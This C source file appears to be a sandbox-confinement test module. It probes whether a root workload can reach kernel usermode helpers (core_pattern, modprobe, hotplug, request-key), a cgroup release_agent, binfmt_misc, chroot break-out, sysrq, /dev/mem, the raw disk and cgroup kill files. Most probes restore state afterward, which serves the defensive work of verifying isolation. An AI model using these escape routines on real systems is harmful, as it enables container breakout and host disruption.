/* SPDX-FileCopyrightText: cellos-telemetry contributors */
/* SPDX-License-Identifier: LGPL-2.1-or-later */

/*
 * What uid 0 reaches of the kernel and of init through files: helpers that the kernel starts,
 * /sys, sysctls, devices, cgroups, files of init's. One thread.
 */
#include "attack.h"

#include <dirent.h>
#include <fcntl.h>
#include <ftw.h>
#include <linux/loop.h>
#include <linux/vm_sockets.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

/* Where the workload's tree lies in init's root. */
#define PLANTED "/mnt/attack"

/* ---- helpers that the kernel starts -----------------------------------------------------------
 */

/* Writes a value, lets `trigger` happen, and puts back what was there. */
static int with_value(const char *path, const char *value, int (*trigger)(void))
{
	char before[160] = "";
	int fd = open(path, O_RDONLY | O_CLOEXEC), result;
	ssize_t got = fd < 0 ? 0 : read(fd, before, sizeof(before) - 1);

	if (fd < 0)
		return errno;
	close(fd);
	before[got > 0 ? got : 0] = '\0';
	result = attack_write(path, value);
	if (result != WORKED)
		return result;
	result = trigger();
	(void)attack_write(path, before);
	return result;
}

static int die(void)
{
	const struct rlimit all = {RLIM_INFINITY, RLIM_INFINITY};

	(void)setrlimit(RLIMIT_CORE, &all);
	abort();
}

static int trigger_core(void)
{
	(void)attack_child(die);
	return attack_was_planted();
}

static int do_core_pattern(void)
{
	return with_value("/proc/sys/kernel/core_pattern", "|" PLANTED " planted\n", trigger_core);
}

/* A protocol that no kernel has, and one for which it looks for a module. */
static int trigger_modprobe(void)
{
	(void)socket(AF_ECONET, SOCK_DGRAM, 0);
	return attack_was_planted();
}

static int do_modprobe(void)
{
	int result = with_value("/proc/sys/kernel/modprobe", PLANTED "\n", trigger_modprobe);

	return result == ENOENT ? ABSENT : result;
}

static int do_modprobe_planted(void)
{
	int result = access("/proc/sys/kernel/modprobe", F_OK) < 0 ? ABSENT
								   : attack_plant("/sbin/modprobe");

	if (result == WORKED)
		result = trigger_modprobe();
	(void)unlink("/sbin/modprobe");
	return result;
}

static int trigger_uevent(void)
{
	int fd = open("/sys/class/mem/null/uevent", O_WRONLY | O_CLOEXEC);

	if (fd >= 0) {
		(void)!write(fd, "add", 3);
		close(fd);
	}
	/* The other way does not need /sys to be writable. */
	fd = open("/dev/loop-control", O_RDWR | O_CLOEXEC);
	if (fd >= 0) {
		(void)ioctl(fd, LOOP_CTL_ADD, 77);
		(void)ioctl(fd, LOOP_CTL_REMOVE, 77);
		close(fd);
	}
	return attack_was_planted();
}

static int do_hotplug(void)
{
	int result = access("/proc/sys/kernel/hotplug", F_OK) < 0 ? ABSENT
								  : attack_plant("/sbin/hotplug");

	if (result == WORKED)
		result = trigger_uevent();
	(void)unlink("/sbin/hotplug");
	return result;
}

static int do_uevent_helper(void)
{
	if (access("/sys/kernel/uevent_helper", F_OK) < 0)
		return ABSENT;
	return with_value("/sys/kernel/uevent_helper", PLANTED "\n", trigger_uevent);
}

static int do_hotplug_sysctl(void)
{
	if (access("/proc/sys/kernel/hotplug", F_OK) < 0)
		return ABSENT;
	return with_value("/proc/sys/kernel/hotplug", PLANTED "\n", trigger_uevent);
}

static int do_request_key(void)
{
	int result = attack_plant("/sbin/request-key");
	long key = -1;
	pid_t asker;

	if (result != WORKED)
		return result;
	asker = fork(); /* the kernel lets it wait for an answer that never comes */
	if (asker == 0) {
		alarm(5);
		key = syscall(SYS_request_key, "user", "cellos", "callout", 0);
		_exit(key < 0 ? errno : 0);
	}
	result = attack_was_planted();
	kill(asker, SIGKILL);
	if (waitpid(asker, &(int){0}, 0) == asker && result == SENT)
		result = EPERM;
	(void)unlink("/sbin/request-key");
	return result;
}

static int nothing(void)
{
	return 0;
}

static int do_release_agent(void)
{
	int result;

	(void)mkdir("/tmp/group", 0755);
	if (mount("none", "/tmp/group", "cgroup", 0, "none,name=planted") < 0)
		return errno;
	result = attack_write("/tmp/group/release_agent", PLANTED);
	(void)mkdir("/tmp/group/child", 0755);
	if (result == WORKED)
		result = attack_write("/tmp/group/child/notify_on_release", "1");
	if (result == WORKED) {
		pid_t pid = fork();

		if (pid == 0) {
			(void)attack_write("/tmp/group/child/cgroup.procs", "0");
			_exit(nothing());
		}
		(void)waitpid(pid, NULL, 0);
		result = attack_was_planted();
	}
	(void)rmdir("/tmp/group/child");
	(void)umount2("/tmp/group", MNT_DETACH);
	return result;
}

static int do_binfmt(void)
{
	static const char word[] = ":cellos:M::cellos::/attack:F";
	int result;

	(void)mkdir("/tmp/formats", 0755);
	if (mount("none", "/tmp/formats", "binfmt_misc", 0, NULL) < 0)
		return errno == ENODEV ? ABSENT : errno;
	result = attack_write("/tmp/formats/register", word);
	(void)attack_write("/tmp/formats/cellos", "-1");
	(void)umount2("/tmp/formats", MNT_DETACH);
	return result;
}

static int do_poweroff_command(void)
{
	return with_value("/proc/sys/kernel/poweroff_cmd", PLANTED "\n", nothing);
}

/* ---- /sys -------------------------------------------------------------------------------------
 */

/* A device of the machine by its vendor and kind: gone for everybody. The channel is one as well.
 */
static int do_remove_device(void)
{
	DIR *devices = opendir("/sys/bus/pci/devices");
	struct dirent *entry;
	int result = ABSENT;

	while (devices != NULL && result == ABSENT && (entry = readdir(devices)) != NULL) {
		char path[320], kind[16] = "";
		int fd;

		snprintf(path, sizeof(path), "/sys/bus/pci/devices/%s/device", entry->d_name);
		fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		(void)!read(fd, kind, sizeof(kind) - 1);
		close(fd);
		if (strncmp(kind, "0x1005", 6) != 0) /* virtio-rng: nothing else needs it */
			continue;
		snprintf(path, sizeof(path), "/sys/bus/pci/devices/%s/remove", entry->d_name);
		result = attack_write(path, "1");
		(void)attack_write("/sys/bus/pci/rescan", "1");
	}
	if (devices != NULL)
		closedir(devices);
	return result;
}

static int do_unbind(void)
{
	DIR *driver = opendir("/sys/bus/platform/drivers/i8042");
	int result = attack_write("/sys/bus/platform/drivers/i8042/unbind", "i8042");

	if (driver == NULL)
		return ABSENT;
	closedir(driver);
	(void)attack_write("/sys/bus/platform/drivers/i8042/bind", "i8042");
	return result;
}

static int do_cpu_offline(void)
{
	int result = attack_write("/sys/devices/system/cpu/cpu1/online", "0");

	(void)attack_write("/sys/devices/system/cpu/cpu1/online", "1");
	return result;
}

static int do_power_state(void)
{
	return attack_open("/sys/power/state", O_WRONLY);
}

static int found_writable;

static int is_writable(const char *path, const struct stat *about, int kind, struct FTW *place)
{
	int fd;

	(void)place;
	if (kind != FTW_F || !S_ISREG(about->st_mode) || (about->st_mode & 0222) == 0)
		return 0;
	fd = open(path, O_WRONLY | O_CLOEXEC | O_NONBLOCK);
	if (fd < 0)
		return 0;
	close(fd);
	found_writable++;
	dprintf(2, "writable: %s\n", path);
	return 1; /* one is enough */
}

static int any_writable(const char *folder)
{
	return nftw(folder, is_writable, 8, FTW_PHYS) == 1 ? WORKED : EROFS;
}

static int do_sys_any(void)
{
	return any_writable("/sys");
}

static int do_sys_block(void)
{
	return any_writable("/sys/kernel");
}

/* ---- /proc ------------------------------------------------------------------------------------
 */

static int do_proc_sys_any(void)
{
	return any_writable("/proc/sys");
}

/* All that is no process: /proc/1, /proc/self and so on have their own rows. */
static int do_proc_any(void)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;
	int result = EROFS;

	while (proc != NULL && result != WORKED && (entry = readdir(proc)) != NULL) {
		char path[300];

		if (strchr("0123456789.", entry->d_name[0]) != NULL || entry->d_type == DT_LNK)
			continue;
		snprintf(path, sizeof(path), "/proc/%s", entry->d_name);
		result = any_writable(path);
	}
	if (proc != NULL)
		closedir(proc);
	return result;
}

static int do_sysctl_panic(void)
{
	return with_value("/proc/sys/kernel/panic", "1\n", nothing);
}

static int do_sysctl_runtime(void)
{
	return with_value("/proc/sys/kernel/sched_rt_runtime_us", "-1\n", nothing);
}

static int do_sysctl_pid_max(void)
{
	return with_value("/proc/sys/kernel/pid_max", "500\n", nothing);
}

static int do_sysctl_overcommit(void)
{
	return with_value("/proc/sys/vm/overcommit_memory", "2\n", nothing);
}

static int do_sysctl_inotify(void)
{
	return with_value("/proc/sys/fs/inotify/max_user_watches", "1\n", nothing);
}

static int do_sysrq(void)
{
	return attack_write("/proc/sysrq-trigger", "9");
}

static int do_kcore(void)
{
	int result = attack_open("/proc/kcore", O_RDONLY);
	struct stat about;

	if (result == ENOENT)
		return ABSENT;
	/* Covered by /dev/null it opens, and shows nothing. */
	if (result == WORKED && stat("/proc/kcore", &about) == 0 && !S_ISREG(about.st_mode))
		return EACCES;
	return result;
}

/* ---- devices ----------------------------------------------------------------------------------
 */

static int do_disk(void)
{
	return attack_open("/dev/vda", O_RDWR);
}

/* A node of one's own. */
static int do_mknod(void)
{
	int result;

	(void)unlink("/tmp/kmsg");
	if (mknod("/tmp/kmsg", S_IFCHR | 0600, makedev(1, 11)) < 0)
		return errno;
	result = attack_open("/tmp/kmsg", O_WRONLY);
	(void)unlink("/tmp/kmsg");
	return result;
}

static int do_loop_control(void)
{
	return attack_open("/dev/loop-control", O_RDWR);
}

static int do_kmsg(void)
{
	return attack_open("/dev/kmsg", O_WRONLY);
}

static int do_fuse(void)
{
	return attack_open("/dev/fuse", O_RDWR);
}

static int do_mem(void)
{
	return attack_open("/dev/mem", O_RDWR);
}

static int do_console(void)
{
	return attack_open("/dev/console", O_RDWR);
}

static int do_serial(void)
{
	return attack_open("/dev/ttyS0", O_RDWR);
}

static int do_vsock_device(void)
{
	unsigned cid;
	int fd = open("/dev/vsock", O_RDONLY | O_CLOEXEC);

	return fd < 0 ? errno : outcome(ioctl(fd, IOCTL_VM_SOCKETS_GET_LOCAL_CID, &cid));
}

static int is_other_device(const char *path, const struct stat *about, int kind, struct FTW *place)
{
	const dev_t known[] = {
		makedev(1, 3), makedev(1, 5), makedev(1, 7), makedev(1, 8),
		makedev(1, 9), makedev(5, 0), makedev(5, 2),
	};

	(void)kind;
	(void)place;
	if (!S_ISCHR(about->st_mode) && !S_ISBLK(about->st_mode))
		return 0;
	for (size_t i = 0; i < sizeof(known) / sizeof(known[0]); i++)
		if (S_ISCHR(about->st_mode) && about->st_rdev == known[i])
			return 0;
	if (major(about->st_rdev) >= 136 && major(about->st_rdev) <= 143)
		return 0;
	return attack_open(path, O_RDONLY) == WORKED;
}

static int do_any_device(void)
{
	return nftw("/dev", is_other_device, 8, FTW_PHYS) == 1 ? WORKED : EACCES;
}

/* ---- cgroups ----------------------------------------------------------------------------------
 */

#define GROUPS "/sys/fs/cgroup"

static int do_leave_group(void)
{
	return attack_write(GROUPS "/cgroup.procs", "0");
}

static int do_freeze(void)
{
	int result = attack_write(GROUPS "/agent/cgroup.freeze", "1");

	(void)attack_write(GROUPS "/agent/cgroup.freeze", "0");
	return result;
}

static int do_group_limit(void)
{
	int result = attack_write(GROUPS "/agent/memory.high", "1");

	(void)attack_write(GROUPS "/agent/memory.high", "max");
	return result;
}

static int do_own_limit(void)
{
	const char *const places[] = {GROUPS "/pids.max", GROUPS "/workload/pids.max"};
	int result = ENOENT;

	for (int i = 0; i < 2 && result == ENOENT; i++)
		result = attack_write(places[i], "max");
	return result == ENOENT ? WORKED : result; /* nothing limits it */
}

static int do_group_kill(void)
{
	int result = attack_write(GROUPS "/agent/cgroup.kill", "1");

	return result == WORKED ? FATAL : result;
}

/* ---- init's and the agent's files --------------------------------------------------------------
 */

static int replace(const char *path)
{
	char aside[64];

	snprintf(aside, sizeof(aside), "%s.old", path);
	if (rename(path, aside) < 0)
		return errno;
	return outcome(rename(aside, path));
}

static int do_replace_agent(void)
{
	return replace("/cellos-telemetry");
}

static int do_replace_init(void)
{
	return replace("/init");
}

static int do_replace_guard(void)
{
	return replace("/cellos-guard");
}

/* PID 1 there runs a file of init's, which this link names wherever the root is. */
static int do_reaper_exe(void)
{
	struct stat about;

	if (stat("/proc/1/exe", &about) < 0)
		return errno;
	return outcome(chmod("/proc/1/exe", about.st_mode & 07777));
}

/* Out of a root within the root, and up as far as it goes. */
static int do_chroot_escape(void)
{
	int top = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	(void)mkdir("/tmp/cell", 0755);
	if (top < 0 || chroot("/tmp/cell") < 0 || fchdir(top) < 0)
		return errno;
	for (int i = 0; i < 64; i++)
		(void)!chdir("..");
	if (chroot(".") < 0)
		return errno;
	return outcome(access("/cellos-telemetry", F_OK));
}

/* What the init's mount tree would show. */
static int do_mount_table(void)
{
	char line[512];
	FILE *table = fopen("/proc/self/mountinfo", "re");
	int result = ENOENT;

	while (table != NULL && result != WORKED && fgets(line, sizeof(line), table) != NULL)
		if (strstr(line, " devtmpfs ") != NULL)
			result = WORKED;
	if (table != NULL)
		fclose(table);
	return result;
}

/* ---- descriptors ------------------------------------------------------------------------------
 */

static int is_consoles(int fd)
{
	struct stat about;

	if (fstat(fd, &about) < 0 || !S_ISCHR(about.st_mode))
		return 0;
	return about.st_rdev == makedev(5, 1) || about.st_rdev == makedev(4, 64);
}

static int do_descriptors(void)
{
	for (int fd = 0; fd < 1024; fd++)
		if (is_consoles(fd))
			return WORKED;
	return EBADF;
}

/* Every holder of the description would wait no more. */
static int do_nonblock(void)
{
	int flags = fcntl(1, F_GETFL), result;

	result = outcome(fcntl(1, F_SETFL, flags | O_NONBLOCK));
	(void)fcntl(1, F_SETFL, flags);
	return result == WORKED && !is_consoles(1) ? EBADF : result;
}

static int do_flow_control(void)
{
	int result = outcome(tcflow(1, TCOOFF));

	(void)tcflow(1, TCOON);
	return result == WORKED && !is_consoles(1) ? EBADF : result;
}

const struct attack attacks_kernel[] = {
	{"core-pattern", "M", "M", do_core_pattern, "a program in core_pattern"},
	{"modprobe", "M", "M", do_modprobe, "a program as kernel.modprobe"},
	{"modprobe-planted", "H M", "H M", do_modprobe_planted, "/sbin/modprobe planted"},
	{"hotplug", "H M", "H M", do_hotplug, "/sbin/hotplug planted"},
	{"hotplug-sysctl", "M", "M", do_hotplug_sysctl, "a program as kernel.hotplug"},
	{"uevent-helper", "M", "M", do_uevent_helper, "a program as uevent_helper"},
	{"request-key", "S M", "S M", do_request_key, "/sbin/request-key planted"},
	{"release-agent", "C S M", "C S M", do_release_agent, "a cgroup's release_agent"},
	{"binfmt", "C S", "C S", do_binfmt, "binfmt_misc"},
	{"poweroff-cmd", "M", "M", do_poweroff_command, "a program as poweroff_cmd"},
	{"remove-device", "M", "M", do_remove_device, "/sys: remove a PCI device"},
	{"unbind", "M", "M", do_unbind, "/sys: unbind a driver"},
	{"cpu-offline", "M", "M", do_cpu_offline, "/sys: a CPU offline"},
	{"power-state", "M", "M", do_power_state, "/sys/power/state"},
	{"sys-any", "M", "M", do_sys_any, "any writable file of /sys"},
	{"sys-kernel", "M", "M", do_sys_block, "any writable file of /sys/kernel"},
	{"sysctl-any", "M", "M", do_proc_sys_any, "any writable file of /proc/sys"},
	{"proc-any", "M", "M", do_proc_any, "any other writable file of /proc"},
	{"sysctl-panic", "M", "M", do_sysctl_panic, "kernel.panic"},
	{"sysctl-rt", "M", "M", do_sysctl_runtime, "kernel.sched_rt_runtime_us"},
	{"sysctl-pid-max", "M", "M", do_sysctl_pid_max, "kernel.pid_max"},
	{"sysctl-overcommit", "M", "M", do_sysctl_overcommit, "vm.overcommit_memory"},
	{"sysctl-inotify", "M", "M", do_sysctl_inotify, "fs.inotify.max_user_watches"},
	{"sysrq", "M", "M", do_sysrq, "/proc/sysrq-trigger"},
	{"kcore", "M C", "M C", do_kcore, "/proc/kcore"},
	{"disk", "M G", "M G", do_disk, "/dev/vda"},
	{"mknod", "C G", "C G", do_mknod, "mknod of a device"},
	{"loop-control", "M G", "M G", do_loop_control, "/dev/loop-control"},
	{"kmsg", "M G", "M G", do_kmsg, "/dev/kmsg"},
	{"fuse", "M G", "M G", do_fuse, "/dev/fuse"},
	{"mem", "M G C", "M G C", do_mem, "/dev/mem"},
	{"console", "M G", "M G", do_console, "/dev/console"},
	{"serial", "M G", "M G", do_serial, "/dev/ttyS0"},
	{"vsock-device", "M G", "M G", do_vsock_device, "/dev/vsock"},
	{"any-device", "M G", "M G", do_any_device, "any other device"},
	{"leave-cgroup", "M", "M", do_leave_group, "leave the cgroup"},
	{"freeze", "M", "M", do_freeze, "cgroup.freeze of the agent's"},
	{"cgroup-limit", "M", "M", do_group_limit, "limits on the agent's cgroup"},
	{"own-limit", "M", "M", do_own_limit, "no limits on its own cgroup"},
	{"replace-agent", "M", "M", do_replace_agent, "replace the agent's file"},
	{"replace-init", "M", "M", do_replace_init, "replace init's file"},
	{"replace-guard", "M", "M", do_replace_guard, "replace the guard's file"},
	{"reaper-exe", "C", "C", do_reaper_exe, "/proc/1/exe: change the guard's file"},
	{"chroot-escape", "M", "M", do_chroot_escape, "chroot and up"},
	{"mount-table", "M", "M", do_mount_table, "init's mounts in sight"},
	{"descriptors", "D", "D", do_descriptors, "init's console among its descriptors"},
	{"nonblock", "D", "D", do_nonblock, "O_NONBLOCK on a shared description"},
	{"flow-control", "D", "D", do_flow_control, "tty flow control"},
	{"cgroup-kill", "M", "M", do_group_kill, "cgroup.kill of the agent's"},
	{0},
};
